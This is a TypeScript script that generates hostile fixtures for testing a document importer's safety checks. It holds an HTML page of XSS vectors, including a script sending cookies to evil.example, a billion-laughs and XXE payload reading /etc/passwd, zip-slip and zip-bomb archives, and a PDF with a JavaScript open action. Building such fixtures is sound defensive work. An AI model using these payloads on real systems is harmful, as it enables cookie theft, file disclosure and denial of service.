/**
 * Generates the hostile and broken files of issue 4's "Bad input" list into a folder (never committed; tests call
 * writeHostileFixtures() on a temp folder). Run by hand: npx tsx --tsconfig tsconfig.node.json
 * scripts/gen-hostile-fixtures.ts OUT_DIR
 *
 * Everything is built here from scratch: PDFs with a hand-written body and exact xref offsets, EPUB/DOCX with JSZip
 * (names written verbatim, so `../` entries really are in the archive), random bytes from a fixed seed.
 */
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import JSZip from 'jszip'

/** Deterministic pseudo-random bytes (xorshift), so failures reproduce. */
export function randomBytes(length: number, seed = 0x2545f491): Buffer {
  const out = Buffer.alloc(length)
  let x = seed >>> 0
  for (let i = 0; i < length; i++) {
    x ^= x << 13
    x >>>= 0
    x ^= x >>> 17
    x ^= x << 5
    x >>>= 0
    out[i] = x & 0xff
  }
  return out
}

/** A PDF from object bodies (object n is bodies[n-1]); object 1 must be the catalog. Offsets are exact. */
export function buildPdf(bodies: string[]): Buffer {
  let pdf = '%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n'
  const offsets: number[] = []
  bodies.forEach((body, i) => {
    offsets.push(Buffer.byteLength(pdf, 'latin1'))
    pdf += `${i + 1} 0 obj\n${body}\nendobj\n`
  })
  const xref = Buffer.byteLength(pdf, 'latin1')
  pdf += `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n`
  for (const o of offsets) pdf += `${String(o).padStart(10, '0')} 00000 n \n`
  pdf += `trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R /Info ${bodies.length} 0 R >>\nstartxref\n${xref}\n%%EOF\n`
  return Buffer.from(pdf, 'latin1')
}

const pdfString = (s: string): string => `(${s.replace(/([\\()])/g, '\\$1')})`
const stream = (content: string): string =>
  `<< /Length ${Buffer.byteLength(content, 'latin1')} >>\nstream\n${content}\nendstream`

/** One-page PDF whose page shows `lines` (Helvetica 12 pt, 14 pt leading) plus optional extra catalog entries. */
export function textPdf(
  lines: string[],
  options: { title?: string; catalogExtra?: string; extraObjects?: string[] } = {},
): Buffer {
  const content = [
    'BT',
    '/F1 12 Tf',
    '14 TL',
    '72 720 Td',
    ...lines.map((l) => `${pdfString(l)} Tj T*`),
    'ET',
  ].join('\n')
  const extra = options.extraObjects ?? []
  return buildPdf([
    `<< /Type /Catalog /Pages 2 0 R ${options.catalogExtra ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream(content),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...extra,
    `<< /Title ${pdfString(options.title ?? 'Generated test PDF')} /CreationDate (D:20240315120000Z) >>`,
  ])
}

/** A page with two columns written line by line across both (left line, right line, …): the order a naive reader merges. */
/** A one-page PDF whose page runs the content stream `content` with Helvetica as /F1, and the Info dictionary `info`. */
export function helveticaPagePdf(content: string, info = '<< /Producer (test) >>'): Buffer {
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream(content),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    info,
  ])
}

export function twoColumnPdf(left: string[], right: string[]): Buffer {
  const ops: string[] = ['BT', '/F1 11 Tf']
  const rows = Math.max(left.length, right.length)
  for (let i = 0; i < rows; i++) {
    const y = 720 - i * 13
    if (left[i]) ops.push(`1 0 0 1 56 ${y} Tm ${pdfString(left[i] as string)} Tj`)
    if (right[i]) ops.push(`1 0 0 1 320 ${y} Tm ${pdfString(right[i] as string)} Tj`)
  }
  ops.push('ET')
  return helveticaPagePdf(ops.join('\n'), '<< /Title (Two columns) >>')
}

/** A one-page PDF with no text at all (what a scan without OCR looks like to a text extractor). */
export function scannedPdf(): Buffer {
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>',
    stream('0.5 g 72 72 468 648 re f'),
    '<< /Title (Scanned page) >>',
  ])
}

type EpubOptions = {
  title?: string
  chapters?: { name: string; html: string }[]
  extraEntries?: { name: string; data: string | Buffer; store?: boolean }[]
  opfPrologue?: string
}

/** A small EPUB 3 (mimetype first and stored, container, OPF, nav) with the given chapters and extra entries. */
export async function buildEpub(options: EpubOptions = {}): Promise<Buffer> {
  const chapters = options.chapters ?? [
    {
      name: 'ch1.xhtml',
      html: '<h1>Chapter One</h1><p>The first chapter of a small generated book.</p>',
    },
  ]
  const zip = new JSZip()
  zip.file('mimetype', 'application/epub+zip', { compression: 'STORE' })
  zip.file(
    'META-INF/container.xml',
    '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="OEBPS/content.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
  )
  const items = chapters
    .map((c, i) => `<item id="c${i}" href="${c.name}" media-type="application/xhtml+xml"/>`)
    .join('')
  const refs = chapters.map((_c, i) => `<itemref idref="c${i}"/>`).join('')
  zip.file(
    'OEBPS/content.opf',
    `<?xml version="1.0" encoding="UTF-8"?>${options.opfPrologue ?? ''}<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">urn:uuid:00000000-0000-0000-0000-000000000001</dc:identifier><dc:title>${options.title ?? 'A Generated Book'}</dc:title><dc:creator>Test Author</dc:creator><dc:date>2021-06-01</dc:date><dc:language>en</dc:language><dc:publisher>Lectern Tests</dc:publisher></metadata><manifest><item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>${items}</manifest><spine>${refs}</spine></package>`,
  )
  zip.file(
    'OEBPS/nav.xhtml',
    `<?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>Contents</title></head><body><nav epub:type="toc"><ol>${chapters.map((c, i) => `<li><a href="${c.name}">Chapter ${i + 1}</a></li>`).join('')}</ol></nav></body></html>`,
  )
  for (const c of chapters)
    zip.file(
      `OEBPS/${c.name}`,
      `<?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>${c.name}</title></head><body>${c.html}</body></html>`,
    )
  for (const e of options.extraEntries ?? [])
    zip.file(e.name, e.data, { compression: e.store ? 'STORE' : 'DEFLATE' })
  return zip.generateAsync({
    type: 'nodebuffer',
    compression: 'DEFLATE',
    compressionOptions: { level: 9 },
  })
}

/** A minimal valid DOCX with the given body XML (paragraphs) and optional extra entries / XML prologue. */
export async function buildDocx(
  paragraphs: string[],
  options: { prologue?: string; extraEntries?: { name: string; data: string | Buffer }[] } = {},
): Promise<Buffer> {
  const zip = new JSZip()
  zip.file(
    '[Content_Types].xml',
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  )
  zip.file(
    '_rels/.rels',
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
  )
  const body = paragraphs
    .map((p) => `<w:p><w:r><w:t xml:space="preserve">${p}</w:t></w:r></w:p>`)
    .join('')
  zip.file(
    'word/document.xml',
    `<?xml version="1.0" encoding="UTF-8"?>${options.prologue ?? ''}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
  )
  for (const e of options.extraEntries ?? []) zip.file(e.name, e.data)
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' })
}

export const BILLION_LAUGHS =
  '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
  '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">' +
  '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">' +
  '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">' +
  '<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">' +
  '<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">' +
  '<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">' +
  '<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">' +
  '<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">' +
  '<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'

/** The hostile HTML page: every script and remote-load vector from SECURITY.md §2 around a real paragraph. */
export const HOSTILE_HTML = `<!DOCTYPE html>
<html><head><title>Hostile page</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://evil.example/p">
<style>@import url(https://evil.example/i.css); body { background: url(https://evil.example/bg.png) } @font-face { src: url(https://evil.example/f.woff) }</style>
<script>document.location = 'https://evil.example/?' + document.cookie</script>
</head><body><article>
<h1>Hostile page</h1>
<p>This paragraph about inert content must survive sanitizing intact.</p>
<p>Second paragraph with enough words for Readability to keep the article body as the main content here.</p>
<img src="https://evil.example/track.gif" width="1" height="1" onerror="alert(1)">
<img src=x onerror="alert(2)"><img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">
<a href="javascript:alert(3)">js link</a> <a href=" JaVaScRiPt:alert(4)">mixed case</a>
<a href="java&#x09;script:alert(5)">entity link</a> <a href="data:text/html,<script>alert(6)</script>">data link</a>
<iframe srcdoc="<script>alert(7)</script>"></iframe><iframe src="https://evil.example/frame"></iframe>
<svg><script>alert(8)</script><circle onload="alert(9)"/><use href="data:image/svg+xml,<svg onload=alert(10)>"/></svg>
<div style="background-image: url('https://evil.example/div.png')">styled div text</div>
<video poster="https://evil.example/poster.jpg" src="https://evil.example/v.mp4"></video>
<form action="https://evil.example/f"><input type="image" src="https://evil.example/i.png"><button formaction="https://evil.example/b">go</button></form>
<details open ontoggle="alert(11)"><summary>details</summary>details body</details>
<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">
<math><mtext><table><mglyph><style><img src=x onerror=alert(12)></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(13)>"></p></noscript>
</article></body></html>`

export type HostileFixtures = Record<string, string>

/**
 * Write every hostile/broken file into `dir` and return their paths by name. `zipBombBytes` is how far the EPUB
 * bomb inflates (tests pass a small maxZipBytes and a bomb just over it).
 */
export async function writeHostileFixtures(
  dir: string,
  options: { zipBombBytes?: number } = {},
): Promise<HostileFixtures> {
  mkdirSync(dir, { recursive: true })
  const files: HostileFixtures = {}
  const put = (name: string, data: string | Buffer): void => {
    const path = join(dir, name)
    writeFileSync(path, data)
    files[name] = path
  }
  put('empty.txt', '')
  put('zero-byte.pdf', '')
  const goodPdf = textPdf(
    ['A complete generated PDF page used to make a truncated copy.', 'Second line of text.'],
    { title: 'Complete PDF' },
  )
  put('truncated.pdf', goodPdf.subarray(0, Math.floor(goodPdf.length * 0.45)))
  put(
    'javascript-action.pdf',
    textPdf(['This PDF carries a JavaScript open action that must never run.'], {
      title: 'PDF with JavaScript',
      catalogExtra: '/OpenAction 6 0 R /AA << /WC 6 0 R >>',
      extraObjects: [
        "<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.exportDataObject\\({cName: 'x'}\\);) >>",
      ],
    }),
  )
  put('scanned.pdf', scannedPdf())
  put('random.txt', randomBytes(64 * 1024, 1))
  put('random.pdf', randomBytes(64 * 1024, 2))
  put('random.epub', randomBytes(64 * 1024, 3))
  put('not-a-zip.docx', 'This is plain text pretending to be a Word document.\n')
  put(
    'zip-bomb.epub',
    await buildEpub({
      title: 'Zip bomb',
      extraEntries: [
        {
          name: 'OEBPS/padding.xhtml',
          data: Buffer.alloc(options.zipBombBytes ?? 600 * 1024 * 1024, 0x20),
        },
      ],
    }),
  )
  put(
    'zip-slip.epub',
    await buildEpub({
      title: 'Zip slip',
      extraEntries: [{ name: '../../evil.xhtml', data: '<p>escaped</p>' }],
    }),
  )
  put(
    'zip-slip-backslash.epub',
    await buildEpub({
      title: 'Zip slip 2',
      extraEntries: [{ name: 'OEBPS\\..\\..\\evil.xhtml', data: 'x' }],
    }),
  )
  put(
    'zip-absolute.epub',
    await buildEpub({
      title: 'Zip absolute',
      extraEntries: [{ name: '/etc/evil.xhtml', data: 'x' }],
    }),
  )
  put(
    'nested-archive.epub',
    await buildEpub({
      title: 'Nested',
      extraEntries: [{ name: 'OEBPS/inner.zip', data: await buildDocx(['inner']) }],
    }),
  )
  put(
    'billion-laughs.epub',
    await buildEpub({
      title: 'Laughs &lol9; &xxe;',
      opfPrologue: BILLION_LAUGHS.replace('lolz', 'package'),
      chapters: [
        {
          name: 'ch1.xhtml',
          html: '<h1>Entities</h1><p>Before &lol9; after &xxe; end of the entity chapter.</p>',
        },
      ],
    }),
  )
  put(
    'billion-laughs.docx',
    await buildDocx(['Entity test &lol9; and &xxe; here.'], {
      prologue: BILLION_LAUGHS.replace('lolz', 'w:document'),
    }),
  )
  put('hostile.html', HOSTILE_HTML)
  put(
    'nested-divs.html',
    `<!DOCTYPE html><html><head><title>Deeply nested</title></head><body>${'<div>'.repeat(100_000)}<p>Text at the bottom of one hundred thousand nested divs.</p>${'</div>'.repeat(100_000)}</body></html>`,
  )
  put(
    'image.png',
    Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      randomBytes(256, 4),
    ]),
  )
  return files
}

if (require.main === module) {
  const out = process.argv[2]
  if (!out) {
    process.stderr.write('usage: gen-hostile-fixtures.ts OUT_DIR\n')
    process.exit(2)
  }
  writeHostileFixtures(out).then((files) =>
    process.stdout.write(`${Object.keys(files).length} files in ${out}\n`),
  )
}

/** A PDF of `pages` small text pages: slow to read only because there are so many (time-limit tests). */
export function manyPagesPdf(pages: number): Buffer {
  const bodies = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]
  const kids: string[] = []
  for (let i = 0; i < pages; i++) {
    const content = `BT /F1 12 Tf 72 720 Td (Page ${i + 1} of a very long generated document.) Tj ET`
    bodies.push(`<< /Length ${content.length} >>\nstream\n${content}\nendstream`)
    const contentRef = bodies.length
    bodies.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${contentRef} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
    )
    kids.push(`${bodies.length} 0 R`)
  }
  bodies[1] = `<< /Type /Pages /Kids [${kids.join(' ')}] /Count ${pages} >>`
  bodies.push('<< /Title (Many pages) >>')
  return buildPdf(bodies)
}

/**
 * A PDF whose text extracts but whose pages pdf.js cannot draw (#12, "a PDF whose pages fail to render"): each page
 * is painted with a tiling pattern whose /XStep is 0. pdf.js's worker accepts it (a number), and the canvas side
 * then asks for a 0-pixel-wide tile canvas and throws "Invalid canvas size", so every page's render fails while its
 * text (read by the importer and pdf.js's text layer alike) is intact. Found by trying hostile patterns.
 */
export function unpaintablePdf(pages: number): Buffer {
  const tile = 'BT /F1 8 Tf 0 2 Td (x) Tj ET'
  const bodies = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 10 10] /XStep 0 /YStep 10 /Resources << /Font << /F1 3 0 R >> >> /Length ${tile.length} >>\nstream\n${tile}\nendstream`,
  ]
  const kids: string[] = []
  for (let i = 0; i < pages; i++) {
    const content = `BT /F1 12 Tf 72 720 Td (Page ${i + 1} keeps its words though its picture cannot be drawn.) Tj ET /Pattern cs /P1 scn 72 100 468 500 re f`
    bodies.push(`<< /Length ${content.length} >>\nstream\n${content}\nendstream`)
    const contentRef = bodies.length
    bodies.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${contentRef} 0 R /Resources << /Font << /F1 3 0 R >> /Pattern << /P1 4 0 R >> >> >>`,
    )
    kids.push(`${bodies.length} 0 R`)
  }
  bodies[1] = `<< /Type /Pages /Kids [${kids.join(' ')}] /Count ${pages} >>`
  bodies.push('<< /Title (Unpaintable pages) >>')
  return buildPdf(bodies)
}
